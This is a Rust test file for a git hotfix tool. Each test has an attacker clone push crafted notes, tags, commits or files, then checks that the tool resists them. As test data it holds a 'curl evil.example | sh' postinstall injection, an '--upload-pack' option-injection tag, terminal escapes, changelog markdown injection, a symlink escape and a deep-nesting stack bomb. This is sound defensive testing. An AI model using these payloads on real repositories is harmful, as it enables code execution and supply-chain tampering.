//! Attacks on what reads other people's input: a second clone pushes the crafted note, branch
//! or commit where it would come from someone else, and the victim's clone runs the command.
//! Each test is one attack the tool must withstand.

use serde_json::{Value, json};

use crate::common::{Sandbox, stderr, stdout};

/// The attacker's clone, with the notes the remote has.
fn attacker(victim: &Sandbox) -> Sandbox {
    let attacker = victim.clone_named("attacker");
    attacker.git(["config", "user.name", "Mallory"]);
    attacker.hotfix(["sync"]).success();
    attacker
}

/// A second clone commits `path` (as `text`) on main and pushes it; the victim pulls it.
fn pulled_from_an_attacker(victim: &Sandbox, path: &str, text: &str, message: &str) {
    let mallory = victim.clone_named("attacker");
    mallory.commit(path, text, &["-m", message]);
    mallory.git(["push", "--quiet", "origin", "main"]);
    victim.git(["pull", "--quiet", "--ff-only"]);
}

/// Stores `doc` as a note on a new anchor in `clone` and pushes the notes, as plain git can.
fn plant(clone: &Sandbox, doc: &Value) {
    let text = serde_json::to_string(doc).unwrap();
    clone.add_note(&format!("planted {}\n", text.len()), doc);
    clone.git([
        "push",
        "--quiet",
        "origin",
        "refs/notes/hotfix:refs/notes/hotfix",
    ]);
}

#[test]
fn a_planted_note_claiming_the_merge_main_contains_is_not_the_hotfix_taken() {
    let victim = Sandbox::new();
    let id = victim.finished_hotfix("auth", &[]);
    victim.hotfix(["sync"]).success();
    let mallory = attacker(&victim);
    let mut doc = victim.metadata(&id);
    doc["hotfix_id"] = "HOTFIX-777".into();
    doc["issue"] = "Planted".into();
    doc["owner"] = "Mallory <mallory@example.com>".into();
    plant(&mallory, &doc);
    victim.hotfix(["sync"]).success();
    assert_eq!(victim.metadata("HOTFIX-777")["merges"], doc["merges"]);

    // The merge brings commits of HOTFIX-001 only: it is no merge of HOTFIX-777.
    let run = victim.hotfix(["resolved"]).success();
    assert!(
        stderr(&run).contains(&format!("Using {id}, whose merge branch 'main' contains.")),
        "{}",
        stderr(&run)
    );
    assert!(
        victim.metadata("HOTFIX-777")["events"]
            .as_array()
            .unwrap()
            .iter()
            .all(|e| e["event"] != "resolved")
    );

    // A note that also claims the id of the commits is a second claim on the same merge: no
    // hotfix is obvious, and the command says which to name.
    let mut doc = doc.clone();
    doc["hotfix_id"] = "HOTFIX-778".into();
    doc["former_ids"] = json!([id]);
    plant(&mallory, &doc);
    victim.hotfix(["sync"]).success();
    let run = victim.hotfix(["rollback"]).failure();
    let err = stderr(&run);
    assert!(
        err.contains(&format!(
            "the merge branch 'main' contains is claimed by {id} and HOTFIX-778"
        )),
        "{err}"
    );
    assert!(
        err.contains("hint: name the hotfix with 'git hotfix rollback"),
        "{err}"
    );
    assert!(stdout(&run).is_empty());
}

#[test]
fn a_version_rewritten_in_the_notes_never_reaches_a_manifest_or_the_changelog() {
    let victim = Sandbox::project(&crate::common::layouts::npm_package());
    let id = victim.fixed_hotfix("auth", &[]);
    victim.hotfix(["sync"]).success();
    let mallory = attacker(&victim);
    let mut doc = victim.metadata(&id);
    let crafted = "2.0.2\", \"scripts\": {\"postinstall\": \"curl evil.example | sh\"}, \"x\": \"2.0.2\n\n## [9.9.9] - 2099-01-01";
    doc["version"] = crafted.into();
    mallory.write_note(&mallory.anchor(&id), &doc);
    mallory.git([
        "push",
        "--quiet",
        "origin",
        "refs/notes/hotfix:refs/notes/hotfix",
    ]);
    victim.hotfix(["sync"]).success();
    assert_eq!(victim.metadata(&id)["version"], crafted);
    let head = victim.rev("HEAD");

    let run = victim.hotfix(["release-notes", "--changelog"]).code(1);
    let err = stderr(&run);
    assert!(
        err.starts_with(&format!(
            "error: the notes record the version of {id} as '2.0.2"
        )),
        "{err}"
    );
    assert!(err.contains("hint: "), "{err}");
    assert!(!err.contains("curl evil.example | sh\"}"), "{err}");
    assert_eq!(victim.rev("HEAD"), head, "nothing is committed");
    assert!(!victim.read("package.json").contains("postinstall"));
    assert!(victim.git(["status", "--porcelain"]).trim().is_empty());

    // A version the user gives is theirs.
    victim
        .hotfix(["release-notes", "--changelog", "--version", "2.0.2"])
        .success();
    assert!(
        victim
            .read("package.json")
            .contains("\"version\": \"2.0.2\"")
    );
}

#[test]
fn a_deeply_nested_lock_file_is_read_without_exhausting_the_stack() {
    let mut layout = crate::common::layouts::npm_package();
    let depth = 300_000;
    let lock = format!(
        "{{\n  \"name\": \"acme-app\",\n  \"deep\": {}{},\n  \"version\": \"2.0.1\",\n  \"packages\": {{\n    \"\": {{ \"name\": \"acme-app\", \"version\": \"2.0.1\" }}\n  }}\n}}\n",
        "[".repeat(depth),
        "]".repeat(depth)
    );
    layout.retain(|(path, _)| *path != "package-lock.json");
    layout.push(("package-lock.json", lock));
    let victim = Sandbox::project(&layout);
    victim.fixed_hotfix("auth", &[]);
    let run = victim
        .hotfix(["release-notes", "--changelog", "--version", "2.0.2"])
        .success();
    assert!(
        stdout(&run).contains("Set the version to 2.0.2 in package-lock.json, package.json"),
        "{}",
        stdout(&run)
    );
    let lock = victim.read("package-lock.json");
    assert!(lock.contains("\"version\": \"2.0.2\",\n  \"packages\""));
    assert!(lock.contains("{ \"name\": \"acme-app\", \"version\": \"2.0.2\" }"));
}

#[test]
fn a_note_rewritten_without_its_merge_cannot_point_deploy_or_monitor_at_another_tag() {
    let victim = Sandbox::new();
    let id = victim.finished_hotfix("auth", &[]);
    victim.hotfix(["sync"]).success();
    let mallory = attacker(&victim);
    mallory.git(["checkout", "--quiet", "-b", "topic", "v2.0.0"]);
    let theirs = mallory.commit("app.js", "steal();\n", &["-m", "Something else"]);
    mallory.git(["tag", "v2.0.9"]);
    mallory.git(["push", "--quiet", "origin", "v2.0.9"]);
    // With no merge left in the note, there is nothing for the tag to be checked against.
    let mut doc = victim.metadata(&id);
    doc["merges"] = json!([]);
    doc["tag"] = "v2.0.9".into();
    mallory.write_note(&mallory.anchor(&id), &doc);
    mallory.git([
        "push",
        "--quiet",
        "origin",
        "refs/notes/hotfix:refs/notes/hotfix",
    ]);
    victim.git(["fetch", "--quiet", "--tags"]);
    victim.hotfix(["sync"]).success();
    assert_eq!(victim.metadata(&id)["tag"], "v2.0.9");

    let log = victim.dir.path().join("steps.log");
    let record = format!("echo \"$HOTFIX_TAG $HOTFIX_COMMIT\" >> '{}'", log.display());
    victim.git(["config", "hotfix.deployCommand", &record]);
    victim.git(["config", "hotfix.monitorCommand", &record]);
    let expected = format!("error: {id} records no merge into 'main', so what it released");
    let run = victim.hotfix(["deploy", &id, "--yes"]).code(1);
    assert!(stderr(&run).starts_with(&expected), "{}", stderr(&run));
    let run = victim
        .hotfix(["monitor", &id, "--for", "0.2s", "--every", "0.1s"])
        .code(1);
    assert!(stderr(&run).starts_with(&expected), "{}", stderr(&run));
    let ran = std::fs::read_to_string(&log).unwrap_or_default();
    assert!(
        !ran.contains(&theirs),
        "a step got the attacker's commit: {ran}"
    );
    assert!(ran.is_empty(), "{ran}");
}

#[test]
fn a_codeowners_handle_with_terminal_escapes_is_shown_escaped_in_the_pull_request_plan() {
    let victim = Sandbox::new();
    pulled_from_an_attacker(
        &victim,
        ".github/CODEOWNERS",
        "* @alice @evil\u{1b}]0;owned\u{7}\u{1b}[2J\n",
        "Add code owners",
    );
    victim.fixed_hotfix("auth", &[]);

    let run = victim.hotfix(["finish", "--pr", "--dry-run"]).success();
    let plan = stdout(&run);
    assert!(
        !plan.contains('\u{1b}') && !plan.contains('\u{7}'),
        "{plan:?}"
    );
    assert!(
        plan.contains("--reviewer alice --reviewer 'evil\\x1b]0;owned\\x07\\x1b[2J'"),
        "{plan}"
    );
}

#[test]
fn commit_subjects_cannot_add_a_heading_or_a_link_definition_to_the_changelog() {
    let victim = Sandbox::project(&crate::common::layouts::keep_a_changelog());
    let id = victim.fixed_hotfix("auth", &[]);
    victim.git(["push", "--quiet", "origin", "hotfix/auth"]);
    let mallory = attacker(&victim);
    mallory.git(["checkout", "--quiet", "hotfix/auth"]);
    for (n, subject) in [
        "[2.0.2]: https://evil.example/download",
        "## [9.9.9] - 2099-01-01",
        ".. raw:: html",
    ]
    .iter()
    .enumerate()
    {
        let text = format!("{}// {n}\n", crate::common::fixed_app(&id));
        mallory.commit("app.js", &text, &["-m", &format!("{id}: {subject}")]);
    }
    mallory.git(["push", "--quiet", "origin", "hotfix/auth"]);
    victim.git(["pull", "--quiet", "--ff-only", "origin", "hotfix/auth"]);

    victim.hotfix(["release-notes", "--changelog"]).success();
    let changelog = victim.read("CHANGELOG.md");
    for item in [
        "- \\[2.0.2]: https://evil.example/download (HOTFIX-001)",
        "- \\## [9.9.9] - 2099-01-01 (HOTFIX-001)",
        "- \\.. raw:: html (HOTFIX-001)",
    ] {
        assert!(
            changelog.contains(&format!("\n{item}\n")),
            "{item}: {changelog}"
        );
    }
    assert!(!changelog.contains("\n- ## "), "{changelog}");
    assert!(!changelog.contains("\n- [2.0.2]:"), "{changelog}");
}

#[test]
fn a_dynamic_version_file_committed_as_a_link_out_of_the_repository_is_never_written() {
    let mut layout = crate::common::layouts::python_dynamic_version();
    layout.retain(|(path, _)| *path != "pyproject.toml");
    layout.push((
        "pyproject.toml",
        "[project]\nname = \"acme-auth\"\ndynamic = [\"version\"]\n\n[tool.setuptools.dynamic]\nversion = {file = \"VERSION.txt\"}\n".to_string(),
    ));
    let victim = Sandbox::project(&layout);
    let outside = victim.dir.path().join("release-2.0.1");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("VERSION"), "2.0.1\n").unwrap();
    let mallory = victim.clone_named("attacker");
    std::os::unix::fs::symlink(outside.join("VERSION"), mallory.work.join("VERSION.txt")).unwrap();
    mallory.git(["add", "VERSION.txt"]);
    mallory.git(["commit", "--quiet", "-m", "Keep the version in one place"]);
    mallory.git(["push", "--quiet", "origin", "main"]);
    victim.git(["pull", "--quiet", "--ff-only"]);
    victim.fixed_hotfix("auth", &[]);

    // A link is no version file: the entry is written, the version is not, and it says why.
    let run = victim
        .hotfix(["release-notes", "--changelog", "--version", "2.0.2"])
        .success();
    let err = stderr(&run);
    assert!(
        err.contains("VERSION.txt is a symbolic link, not a file: it is left out"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(outside.join("VERSION")).unwrap(),
        "2.0.1\n"
    );
    assert!(
        victim
            .git(["ls-tree", "HEAD", "--", "VERSION.txt"])
            .starts_with("120000 "),
        "{}",
        victim.git(["ls-tree", "HEAD", "--", "VERSION.txt"])
    );
    assert!(victim.git(["status", "--porcelain"]).trim().is_empty());
}

#[test]
fn a_version_file_named_like_a_pathspec_commits_nothing_but_itself() {
    let victim = Sandbox::new();
    // `:(exclude)…` is git's pathspec magic for "every file but this one".
    pulled_from_an_attacker(
        &victim,
        ":(exclude)acme.gemspec",
        "Gem::Specification.new do |spec|\n  spec.version = \"2.0.1\"\nend\n",
        "Add the gem specification",
    );
    let id = victim.fixed_hotfix("auth", &[]);
    victim.write(".env.local", "SECRET=hunter2\n");
    victim.write("README.md", "# App\n\nWork in progress.\n");

    victim
        .hotfix(["release-notes", "--changelog", "--version", "2.0.2"])
        .success();
    let committed = |rev: &str| victim.git(["show", "--name-only", "--format=", rev]);
    assert_eq!(
        victim.git(["log", "-1", "--format=%s", "HEAD~1"]).trim(),
        format!("{id}: Set the version to 2.0.2")
    );
    assert_eq!(committed("HEAD~1").trim(), ":(exclude)acme.gemspec");
    assert_eq!(committed("HEAD").trim(), "CHANGELOG.md");
    let status = victim.git(["status", "--porcelain"]);
    assert!(status.contains(" M README.md"), "{status}");
    assert!(status.contains("?? .env.local"), "{status}");
}

#[test]
fn a_recorded_tag_named_like_an_option_never_reaches_a_step() {
    let victim = Sandbox::new();
    let id = victim.finished_hotfix("auth", &[]);
    victim.git(["push", "--quiet", "origin", "main"]);
    victim.hotfix(["sync"]).success();
    let mallory = attacker(&victim);
    // A valid tag name, on the very merge the note records, that a step's `git fetch origin
    // "$HOTFIX_TAG"` would read as an option.
    let merge = victim.metadata(&id)["merges"][0]["commit"]
        .as_str()
        .unwrap()
        .to_string();
    let tag = "--upload-pack=touch${IFS}pwned";
    mallory.git(["update-ref", &format!("refs/tags/{tag}"), &merge]);
    mallory.git(["push", "--quiet", "origin", &format!("refs/tags/{tag}")]);
    let mut doc = victim.metadata(&id);
    doc["tag"] = tag.into();
    mallory.write_note(&mallory.anchor(&id), &doc);
    mallory.git([
        "push",
        "--quiet",
        "origin",
        "refs/notes/hotfix:refs/notes/hotfix",
    ]);
    victim.git(["fetch", "--quiet", "--tags"]);
    victim.hotfix(["sync"]).success();
    assert_eq!(victim.metadata(&id)["tag"], tag);

    let log = victim.dir.path().join("steps.log");
    victim.git([
        "config",
        "hotfix.deployCommand",
        &format!("printf '[%s]\\n' \"$HOTFIX_TAG\" >> '{}'", log.display()),
    ]);
    victim.hotfix(["deploy", &id, "--yes"]).success();
    assert_eq!(std::fs::read_to_string(&log).unwrap(), "[]\n");
}
